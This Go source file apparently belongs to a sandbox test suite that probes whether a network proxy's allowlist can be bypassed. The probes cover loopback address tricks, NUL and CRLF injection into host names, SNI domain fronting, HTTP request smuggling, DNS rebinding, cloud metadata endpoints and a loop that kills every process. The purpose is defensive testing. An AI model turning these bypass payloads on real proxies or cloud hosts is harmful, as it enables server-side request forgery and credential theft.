package escape

import (
	"bufio"
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/url"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"

	"github.com/pccrun/pccrun/profiles"
)

func proxyProbes() []Probe {
	get := func(target, host string, more ...string) string {
		return "GET " + target + " HTTP/1.1\r\nHost: " + host + "\r\n" + strings.Join(more, "") + "Connection: close\r\n\r\n"
	}
	evil := []string{"tcp 20.0.0.66"}
	cases := []proxyCase{
		{"NET-014", "addresses in forms that only a C library reads", profiles.NetAddress, Critical, "403", refs("CVE-2021-29923", "CVE-2021-28918"),
			"127.1, decimal, hexadecimal and octal forms all lead to loopback.",
			connects("127.1:{port}", "2130706433:{port}", "0x7f000001:{port}", "0177.0.0.1:{port}", "0:{port}", "0.0.0.0:{port}", "127.0.0.1:{port}", "127.000.000.001:{port}", "0x7f.1:{port}"), []string{"tcp4"}},
		{"NET-015", "IPv4 within IPv6", profiles.NetAddress, Critical, "403", refs("CVE-2024-24790"),
			"A mapped address passes a check that knows only the plain form.",
			connects("[::ffff:127.0.0.1]:{port}", "[::ffff:7f00:1]:{port}", "[::127.0.0.1]:{port}", "[64:ff9b::7f00:1]:{port}", "[::]:{port6}", "[::1]:{port6}", "[0:0:0:0:0:0:0:1]:{port6}", "[::1%25lo]:{port6}"), []string{"tcp4", "tcp6"}},
		{"NET-016", "trailing dots and capitals", profiles.NetAllowlist, High, "the same as for the plain name", refs("CVE-2022-27779"),
			"A rule against denied.test must hold for DENIED.TEST and for denied.test. with its dot.",
			connects("denied.test.:443", "DENIED.TEST:443", "Denied.Test.:443", "evil.test.:443", "EVIL.TEST:443"), evil},
		{"NET-017", "names that contain an allowed one", profiles.NetAllowlist, Critical, "403", nil,
			"evilallowed.test ends with it, allowed.test.evil.test begins with it.",
			connects("evilallowed.test:443", "allowed.test.evil.test:443", "allowed-test.test:443", "sub.allowed.test:443"), evil},
		{"NET-018", "the scope of a wildcard", profiles.NetAllowlist, Medium, "*.wild.test does not match wild.test", refs("srt: domain patterns"),
			"A wildcard stands for names below, not for the name itself.",
			connects("wild.test:443", "xwild.test:443", "*.wild.test:443"), evil},
		{"NET-019", "look-alike names and dots", profiles.NetAllowlist, High, "403 or 400", refs("UTS 46"),
			"A full-width dot becomes a dot when a resolver normalises it.",
			connects("evil。test:443", "evil．test:443", "xn--evil-test:443", "аllowed.test:443", "evil%E3%80%82test:443"), evil},
		{"NET-020", "user names in an authority", profiles.NetAllowlist, High, "400 or 403", nil,
			"Two readers of allowed.test@evil.test disagree which part is the host.",
			connects("allowed.test@evil.test:443", "allowed.test:443@evil.test:443", "allowed.test@127.0.0.1:{port}"), append(evil, "tcp4")},
		{"NET-021", "user names in an absolute target", profiles.NetAllowlist, High, "400 or 403", nil,
			"http://allowed.test@evil.test/ is evil.test's.",
			func(in *Inside) Outcome {
				return Any(in.viaProxyRaw(get("http://allowed.test@evil.test/", "allowed.test"), "", "GET with user"), in.viaProxyRaw(get("http://allowed.test:x@evil.test/", "evil.test"), "", "GET with password"))
			}, evil},
		{"NET-022", "control characters in a host", profiles.NetAllowlist, High, "400", refs("srt: parser invariants"),
			"What cuts a string in one program does not in another.",
			connects("evil.test\x00.allowed.test:443", "evil.test%00.allowed.test:443", "evil.test\tallowed.test:443", "evil.test#allowed.test:443", "evil.test?allowed.test:443", "evil.test\\allowed.test:443", "evil.test/allowed.test:443"), evil},
		{"NET-023", "ports that are not the usual ones", profiles.NetAllowlist, High, "403 unless the rule names the port", nil,
			"An allowed name is not allowed for mail, redis or ssh.",
			connects("allowed.test:25", "allowed.test:6379", "allowed.test:2375", "allowed.test:65561", "allowed.test:+25"),
			[]string{"tcp 20.0.0.10:25", "tcp 20.0.0.10:6379", "tcp 20.0.0.10:2375"}},
		{"NET-024", "another name in the TLS greeting", profiles.NetAllowlist, High, "closed, and an event", refs("T1090.004"),
			"The tunnel is for allowed.test, the greeting within for evil.test: domain fronting.",
			func(in *Inside) Outcome {
				return in.viaProxyRaw("CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n", clientHello("evil.test"), "SNI evil.test in a tunnel to allowed.test")
			}, nil},
		{"NET-026", "a greeting for a name that is denied, in two records", profiles.NetAllowlist, Medium, "closed", refs("microsandbox issue 709"),
			"The greeting is cut, so that a reader of the first packet finds no name.",
			func(in *Inside) Outcome {
				hello := clientHello("evil.test")
				inner := hello[5:]
				cut := 40
				split := string(append([]byte{22, 3, 1}, block16([]byte(inner[:cut]))...)) + string(append([]byte{22, 3, 1}, block16([]byte(inner[cut:]))...))
				return in.viaProxyRaw("CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n", split, "SNI evil.test, in two records")
			}, nil},
		{"NET-027", "another Host than the target's", profiles.NetAllowlist, High, "421, 400, or the Host is rewritten", refs("RFC 9112, 3.2.2"),
			"The check reads the target, the server reads Host.",
			func(in *Inside) Outcome {
				in.viaProxyRaw(get("http://allowed.test/", "evil.test"), "", "Host: evil.test")
				in.viaProxyRaw(get("http://allowed.test/", "allowed.test", "Host: evil.test\r\n"), "", "two Hosts")
				return Blocked("the server was asked for the target's host, or not at all") // what arrived decides
			}, []string{"host 20.0.0.10:80 evil.test", "host 20.0.0.66"}},
		{"NET-028", "a second request in the same connection", profiles.NetAllowlist, High, "decided by itself", nil,
			"The first request is allowed, the second on the same connection is for another host.",
			func(in *Inside) Outcome {
				c, err := in.dialProxy()
				blockedBy(err, "proxy")
				defer c.Close()
				c.SetDeadline(time.Now().Add(patience(3 * time.Second)))
				io.WriteString(c, "GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n")
				data, _ := io.ReadAll(io.LimitReader(c, 8192))
				return Blocked("%d bytes came back", len(data)) // what arrived decides
			}, append(evil, "host 20.0.0.10:80 evil.test")},
		{"NET-029", "two lengths of one body", profiles.NetAllowlist, High, "400, or one request is forwarded", refs("CVE-2023-46846"),
			"What one reader takes for a body is the next request for another.",
			func(in *Inside) Outcome {
				smuggled := "GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"
				return in.viaProxyRaw(fmt.Sprintf("POST http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n%s", 5+len(smuggled), smuggled), "", "CL and TE")
			}, evil},
		{"NET-031", "line breaks in a target", profiles.NetAllowlist, High, "400", nil,
			"A break in the host adds a header, or a second request.",
			func(in *Inside) Outcome {
				return Any(in.viaProxyRaw("GET http://evil.test/\r\n HTTP/1.1\r\nHost: evil.test\r\n\r\n", "", "obs-fold"),
					in.viaProxyRaw("GET http://evil.test/ HTTP/1.1\r\nHost : evil.test\r\n\r\n", "", "space before the colon"))
			}, evil},
		{"NET-034", "a redirection to a host that is not allowed", profiles.NetAllowlist, Medium, "the second request is refused", nil,
			"An allowed server sends the client on.",
			func(in *Inside) Outcome {
				in.viaProxyRaw(get("http://allowed.test/redirect", "allowed.test"), "", "redirect")
				return in.viaProxyRaw(get("http://evil.test/", "evil.test"), "", "second hop")
			}, evil},
		{"NET-035", "a name whose address changes", profiles.NetAddress, Critical, "the address that was checked is the one that is dialled", nil,
			"rebind.test is a public address when it is checked and loopback when it is dialled; mixed.test is both.",
			func(in *Inside) Outcome {
				target := "rebind.test:" + strconv.Itoa(in.TCP4)
				return Any(in.viaProxy("CONNECT", target), in.viaProxy("CONNECT", target), in.viaProxy("CONNECT", "mixed.test:"+strconv.Itoa(in.TCP4)), in.viaProxy("CONNECT", "loop.test:"+strconv.Itoa(in.TCP4)))
			}, []string{"tcp4"}},
		{"NET-036", "the cloud's metadata service", profiles.NetAddress, Critical, "403 or ECONNREFUSED, even where a rule would allow the name", refs("CDK: cloud metadata"),
			"It hands out the machine's credentials. The address exists only in the suite's own network.",
			func(in *Inside) Outcome {
				return Any(in.viaProxy("CONNECT", "169.254.169.254:80"), in.viaProxy("CONNECT", "meta.test:80"), in.viaProxy("CONNECT", "metadata.google.internal:80"), in.viaProxy("CONNECT", "168.63.129.16:80"),
					in.viaProxy("CONNECT", "100.100.100.200:80"), in.viaProxy("CONNECT", "[fd00:ec2::254]:80"), in.Dial("tcp4", "169.254.169.254:80"), in.Dial("tcp6", "[fd00:ec2::254]:80"))
			}, []string{"tcp 169.254", "tcp 168.63", "tcp 100.100", "tcp [fd00"}},
		{"NET-037", "an allowed name with a private address", profiles.NetAddress, Critical, "403", nil,
			"Whoever owns a name chooses its address: the router, a printer, another container.",
			connects("private.test:80", "private192.test:80", "cgnat.test:80", "meta.test:80", "host.test:8080", "zero.test:8080", "loop.test:8080", "mapped.test:80", "nat64.test:80"),
			[]string{"tcp 10.9", "tcp 192.168", "tcp 100.64", "tcp 169.254", "host address", "tcp 64:", "tcp [64:"}},
		{"NET-040", "schemes that a proxy might follow by itself", profiles.NetAllowlist, Medium, "400 or 403", refs("CWE-918"),
			"file:, ftp:, gopher: and unix: targets.",
			func(in *Inside) Outcome {
				return Any(in.viaProxyRaw(get("file://"+in.Canary+"/secret", "x"), "", "file:"), in.viaProxyRaw(get("ftp://evil.test/", "evil.test"), "", "ftp:"), in.viaProxyRaw(get("gopher://evil.test:25/", "evil.test"), "", "gopher:"))
			}, evil},
		{"NET-053", "SOCKS5 to a host that is not allowed", profiles.NetAllowlist, Critical, "a SOCKS error", refs("srt: SOCKS tests"),
			"The rules hold for every protocol that the proxy speaks.",
			func(in *Inside) Outcome {
				return Any(in.viaSOCKS("evil.test", 443), in.viaSOCKS("denied.test", 443), in.viaSOCKS("20.0.0.66", 80))
			}, evil},
		{"NET-054", "a NUL in a SOCKS5 name", profiles.NetAllowlist, Critical, "a SOCKS error", refs("srt: parser invariants"),
			"evil.test\\0.allowed.test ends as allowed and resolves as evil.",
			func(in *Inside) Outcome {
				return Any(in.viaSOCKS("evil.test\x00.allowed.test", 443), in.viaSOCKS("127.0.0.1\x00.wild.test", in.TCP4))
			}, append(evil, "tcp4")},
		{"NET-055", "an HTTP request for a host that is not allowed", profiles.NetAllowlist, Critical, "403", nil,
			"The plain case: absolute-form and CONNECT to evil.test.",
			func(in *Inside) Outcome {
				return Any(in.viaProxyRaw(get("http://evil.test/", "evil.test"), "", "GET http://evil.test/"), in.viaProxy("CONNECT", "evil.test:443"), in.viaProxy("CONNECT", "20.0.0.66:443"))
			}, evil},
		{"NET-056", "a denied name below an allowed pattern", profiles.NetAllowlist, High, "403", nil,
			"deny wins over allow, in every spelling.",
			connects("denied.test:443", "denied.test:80"), evil},
		{"NET-038", "the proxy asked for itself", profiles.NetAllowlist, Medium, "403, no recursion", nil,
			"A proxy that connects to itself serves whatever it serves to its owner.",
			func(in *Inside) Outcome {
				return Any(in.viaProxy("CONNECT", in.proxyAddress()), in.viaProxy("CONNECT", "localhost:"+strconv.Itoa(in.TCP4)))
			}, []string{"tcp4"}},
	}
	list := requestProbes()
	for _, c := range cases {
		p := Probe{
			ID: c.id, Name: c.name, Guarantee: c.g, Severity: c.severity, Setting: Caged | Proxy, Flags: allowTest,
			Expect: c.expect, References: c.refs, Explain: c.why, Key: "network.allow", Payload: c.try,
		}
		if flags, ok := addressFlags[c.id]; ok {
			p.Flags = flags
		}
		if c.observe != nil {
			p.Observe = hitDecides(c.observe...)
		}
		list = append(list, p)
	}
	return append(list,
		Probe{ID: "NET-025", Name: "an allowed name works", Guarantee: profiles.NetTransparent, Severity: Info, Setting: Caged | Proxy, Flags: allowTest,
			Expect: "works, by proxy and without one", Key: "network.allow", Explain: "Guards against a proxy that refuses everything, and would pass every other probe.",
			Control: func(*Inside) Outcome { return Escaped("works") },
			Payload: func(in *Inside) Outcome {
				request := get("http://allowed.test/", "allowed.test")
				if o := in.viaProxyRaw(request, "", "GET http://allowed.test/"); o.Kind != DidEscape {
					return Escaped("too tight: %s", o.Detail)
				}
				if o := in.plainGet("allowed.test", "allowed.test"); o.Kind != DidEscape {
					return Escaped("too tight, without the proxy's variables: %s", o.Detail)
				}
				return Blocked("allowed.test answers, by proxy and by capture")
			}},
		Probe{ID: "NET-057", Name: "a captured connection to a name that is not allowed", Guarantee: profiles.NetTransparent, Severity: Critical, Setting: Caged | Proxy, Flags: allowTest,
			Expect: "the name is not answered, the address refused", Key: "network.allow", Explain: "Programs that know no proxy are held to the same list.",
			Payload: func(in *Inside) Outcome {
				return Any(in.Dial("tcp", "evil.test:443"), in.Dial("tcp", "denied.test:80"), in.plainGet("evil.test", "evil.test"), in.Dial("tcp", "sub.allowed.test:443"))
			},
			Observe: hitDecides(evil...)},
		Probe{ID: "NET-058", Name: "a captured connection with another Host", Guarantee: profiles.NetTransparent, Severity: High, Setting: Caged | Proxy, Flags: allowTest,
			Expect: "refused: the name decides", Key: "network.allow", Explain: "The connection is to allowed.test's address, the request within for evil.test.",
			Payload: func(in *Inside) Outcome { return in.plainGet("allowed.test", "evil.test") },
			Observe: hitDecides("host 20.0.0.10:80 evil.test")},
		Probe{ID: "NET-046", Name: "the proxy, and all around it, killed", Guarantee: profiles.NetAllowlist, Severity: High, Setting: Caged | Proxy, Flags: allowTest,
			Expect: "no egress, and an error within 5 s", References: refs("codex: managed proxy fails closed"), Key: "network.allow",
			Explain: "Ends every process in sight, the first one too, then tries the way that the proxy guarded.",
			Payload: func(in *Inside) Outcome {
				if !in.Control {
					report(in.Nonce, Blocked("the first process took this one with it"))
					time.Sleep(200 * time.Millisecond) // until it has passed that on
					for _, pid := range processes() {
						if n, _ := strconv.Atoi(pid); n != os.Getpid() {
							unix.Kill(n, unix.SIGKILL)
						}
					}
				}
				began := time.Now()
				o := Any(in.viaProxy("CONNECT", "evil.test:443"), in.Dial("tcp4", in.Peers["evil.test"]+":443"), in.Dial("tcp", "evil.test:80"))
				if took := time.Since(began); took > patience(5*time.Second) {
					return Escaped("the answer took %v", took)
				}
				return o
			},
			Observe: hitDecides(evil...)},
		Probe{ID: "NET-039", Name: "use the proxy from another process of the host", Guarantee: profiles.NetAllowlist, Severity: Medium, Setting: Caged | Proxy, Needs: []Need{NeedMacOS},
			Expect: "407 or reset", Explain: "On Linux the proxy has no port on the host: NET-001 covers it."},
		record("NET-043", "thousands of slow connections", profiles.NetAllowlist, Medium, "--long and a limit on the proxy's connections", "The proxy bounds what it holds."),
		record("NET-044", "a response that never ends", profiles.NetAllowlist, Medium, "--long and a limit on the proxy's memory", "Responses are streamed."),
		record("NET-048", "a policy that changes during a run", profiles.NetAllowlist, Low, "a launcher that reloads its policy", "A policy is a value: it does not change."),
	)
}

// proxyAddress is the proxy that the payload's variables name, the open one in
// the control.
func (in *Inside) proxyAddress() string {
	if in.Control && in.ControlProxy != "" {
		return in.ControlProxy
	}
	for _, name := range []string{"HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy"} {
		if u, err := url.Parse(os.Getenv(name)); err == nil && u.Host != "" {
			return u.Host
		}
	}
	return ""
}

// dialProxy connects to the proxy, with the credential that its variable holds.
func (in *Inside) dialProxy() (net.Conn, error) {
	address := in.proxyAddress()
	if address == "" {
		return nil, unix.ECONNREFUSED
	}
	c, err := net.DialTimeout("tcp", address, patience(2*time.Second))
	if err == nil {
		c.SetDeadline(time.Now().Add(patience(2500 * time.Millisecond)))
	}
	return c, err
}

// viaProxy asks the proxy for a tunnel, or for a document, and speaks to what
// answers.
func (in *Inside) viaProxy(method, target string) Outcome {
	request := fmt.Sprintf("%s %s HTTP/1.1\r\nHost: %s\r\n\r\n", method, target, strings.TrimPrefix(target, "http://"))
	return in.viaProxyRaw(request, "hello\n", method+" "+strconv.Quote(target))
}

// viaProxyRaw sends bytes to the proxy as they are, then, once it has answered
// with success, what comes after.
func (in *Inside) viaProxyRaw(request, after, what string) Outcome {
	c, err := in.dialProxy()
	if err != nil {
		return Blocked("%s: proxy: %v", what, cause(err))
	}
	defer c.Close()
	if _, err := io.WriteString(c, request); err != nil {
		return Blocked("%s: %v", what, cause(err))
	}
	r := bufio.NewReader(c)
	status, err := r.ReadString('\n')
	if err != nil {
		return Blocked("%s: no answer: %v", what, cause(err))
	}
	var head strings.Builder
	for {
		line, err := r.ReadString('\n')
		head.WriteString(line)
		if err != nil || strings.TrimSpace(line) == "" {
			break
		}
	}
	if strings.HasPrefix(request, "CONNECT") {
		if !strings.Contains(status, " 200") {
			return Blocked("%s: %s", what, strings.TrimSpace(status))
		}
		io.WriteString(c, after)
	}
	body := make([]byte, 4096)
	n, _ := io.ReadAtLeast(r, body, secretLen)
	if in.Leaks(body[:n]) || in.Leaks([]byte(head.String())) {
		return Escaped("%s: the canary answered", what)
	}
	return Blocked("%s: %s", what, strings.TrimSpace(status))
}

// viaSOCKS asks a SOCKS5 proxy for a host by name.
func (in *Inside) viaSOCKS(host string, port int) Outcome {
	what := fmt.Sprintf("SOCKS5 %q", host)
	address := in.ControlProxy
	if !in.Control {
		address = in.proxyAddress() // whether it speaks SOCKS too is to be tried
		if u, err := url.Parse(os.Getenv("ALL_PROXY")); err == nil && strings.HasPrefix(u.Scheme, "socks") {
			address = u.Host
		}
	}
	c, err := net.DialTimeout("tcp", address, patience(2*time.Second))
	if err != nil {
		return Blocked("%s: %v", what, cause(err))
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(patience(2500 * time.Millisecond)))
	c.Write([]byte{5, 1, 0})
	reply := make([]byte, 10)
	if _, err := io.ReadFull(c, reply[:2]); err != nil || reply[1] != 0 {
		return Blocked("%s: method refused", what)
	}
	c.Write(append(append([]byte{5, 1, 0, 3, byte(len(host))}, host...), byte(port>>8), byte(port)))
	if _, err := io.ReadFull(c, reply); err != nil || reply[1] != 0 {
		return Blocked("%s: code %d", what, reply[1])
	}
	return in.Greet(c, what)
}

// plainGet asks a server for a host's document, as a program that knows no proxy does.
func (in *Inside) plainGet(server, host string) Outcome {
	ctx, cancel := context.WithTimeout(in.ctx, patience(2*time.Second))
	defer cancel()
	var d net.Dialer
	c, err := d.DialContext(ctx, "tcp", server+":80")
	if err != nil {
		return Blocked("%s: %v", server, cause(err))
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(patience(2 * time.Second)))
	io.WriteString(c, "GET / HTTP/1.1\r\nHost: "+host+"\r\nConnection: close\r\n\r\n")
	data, err := io.ReadAll(c)
	if in.Leaks(data) {
		return Escaped("%s answered as %s", server, host)
	}
	return Blocked("%s, asked for %s: %v %.60q", server, host, err, data)
}

// clientHello is a TLS greeting with a server name.
func clientHello(name string) string {
	client, server := net.Pipe()
	defer server.Close()
	go tls.Client(client, &tls.Config{ServerName: name, InsecureSkipVerify: true}).Handshake() // it ends when nobody answers
	greeting := make([]byte, 1<<14)
	n, _ := server.Read(greeting)
	return string(greeting[:n])
}

func block16(b []byte) []byte {
	return append(binary.BigEndian.AppendUint16(nil, uint16(len(b))), b...)
}
